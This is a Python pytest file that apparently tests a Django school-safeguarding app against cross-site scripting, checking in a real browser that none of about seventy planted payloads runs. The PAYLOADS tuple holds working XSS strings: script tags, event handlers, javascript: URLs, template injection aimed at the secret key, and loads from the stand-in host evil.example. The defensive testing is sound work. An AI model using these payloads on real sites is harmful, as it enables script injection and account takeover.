"""Text that people type stays text: hostile payloads in every field, every page opened in a real browser."""

from __future__ import annotations

from typing import Any

import pytest
from django.conf import settings
from django.contrib.sessions.models import Session

from core import scope
from policyhub.tests import routes
from policyhub.tests.security.planting import Planted, plant
from schools.enums import Role
from schools.permissions import ROLE_PERMISSIONS
from schools.tests.factories import sign_in

pytestmark = [
    pytest.mark.browser,
    pytest.mark.slow,
    pytest.mark.any_database,
    pytest.mark.django_db(transaction=True),
]

PAYLOADS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script src=//evil.example/x.js></script>", "<script>alert`1`</script>",
    "</script><script>alert(1)</script>", "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "</option></select><script>alert(1)</script>", "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>",
    "<img src='x' onerror='alert(1)'>", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>", "<img src=x onerror=alert`1`>",
    "<img src=javascript:alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><foreignObject><body onload=alert(1)></svg>", "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<form action=javascript:alert(1)><button>x</button></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>", "<style>body{background:url(//evil.example/x)}</style>", "<p style=background:url(//evil.example/x)>",
    "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xss id=x tabindex=1 onfocus=alert(1)></xss>", '" onmouseover=alert(1) x="', "' onfocus=alert(1) autofocus x='", "` onfocus=alert(1) `",
    '" autofocus onfocus=alert(1) "', "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}", "{% debug %}", "{{ settings.SECRET_KEY }}", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<div hx-get=/ hx-trigger=load hx-on::load=alert(1)>", "<div hx-on:click=alert(1) autofocus>", "<div data-hx-get='javascript:alert(1)' hx-trigger=load>",
)  # fmt: skip
EVERYTHING = " ".join(PAYLOADS)
WATCH = """
window.reports = [];
document.addEventListener('securitypolicyviolation', (event) =>
  window.reports.push(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`));
"""


class Payloads:
    """All payloads in each long field; in a short one as many as it holds, others in the next."""

    def __init__(self) -> None:
        self.next = 0

    def __call__(self, kind: str, name: str, longest: int) -> str:
        if longest == 0:
            return EVERYTHING.replace("\n", " ")
        text = PAYLOADS[self.next % len(PAYLOADS)]
        for step in range(1, len(PAYLOADS)):
            more = PAYLOADS[(self.next + step) % len(PAYLOADS)]
            if len(text) + len(more) >= longest:
                break
            text = f"{text} {more}"
        self.next += 7
        return text[:longest]


@pytest.fixture
def planted(transactional_db: None) -> Planted:
    return plant(Payloads())


@pytest.fixture
def watched(page: Any) -> Any:
    """A page that notes every dialog, and every report of the browser that something was held back."""
    page.found = []

    def dismiss(dialog: Any) -> None:
        page.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.add_init_script(WATCH)
    return page


def give_session(page: Any, live_server: Any, member: Any) -> None:
    """The browser becomes this person, as after a sign-in."""
    cookie = sign_in(member.user).cookies[settings.SESSION_COOKIE_NAME].value
    assert Session.objects.filter(session_key=cookie).exists()
    page.context.add_cookies(
        [{"name": settings.SESSION_COOKIE_NAME, "value": cookie, "url": live_server.url}]
    )


def reader(route: routes.Route) -> Role:
    """The role that sees most at this address."""
    roles = [role for role in Role if route.gate.permission in ROLE_PERMISSIONS[role]]
    return next((role for role in (Role.DSL, Role.HEADTEACHER) if role in roles), roles[0])


def test_no_payload_runs_on_any_page(live_server, watched, planted):
    with scope.acting(schools=[planted.school.pk]), scope.reading():
        addresses = planted.addresses()
    pages = [route for route in routes.gated() if "GET" in route.gate.methods]
    found, shown, signed_in = {}, 0, None
    for route in sorted(pages, key=reader):
        if reader(route) != signed_in:
            signed_in = reader(route)
            give_session(watched, live_server, planted.members[signed_in])
        watched.found.clear()
        content = _open(watched, f"{live_server.url}{addresses[route.name]}")
        shown += "alert(1)" in content
        if watched.found:
            found[route.name] = list(watched.found)

    assert len(PAYLOADS) >= 60
    assert shown >= 25
    assert found == {}


def _open(page: Any, address: str) -> str:
    """Opens a page, waits until it is still, and takes what the browser reported."""
    answer = page.request.get(address)
    if "text/html" not in answer.headers.get("content-type", ""):
        return ""
    page.goto(address, wait_until="load")
    page.found.extend(page.evaluate("window.reports"))
    return str(page.content())


def test_the_browser_would_have_shown_it(live_server, watched, planted):
    """The control: the same payloads, unescaped into a page, are reported by the policy and run without it."""
    give_session(watched, live_server, planted.members[Role.DSL])
    watched.goto(f"{live_server.url}/")
    watched.evaluate("(text) => { document.body.innerHTML = text }", "<img src=x onerror=alert(1)>")
    watched.wait_for_function("window.reports.length > 0")
    reported = watched.evaluate("window.reports")
    watched.goto("about:blank")
    with watched.expect_event("dialog"):
        watched.set_content("<img src=x onerror=alert(1)>")

    assert [report.split()[0] for report in reported][:1] == ["script-src-attr"]
    assert watched.found == ["dialog 1"]
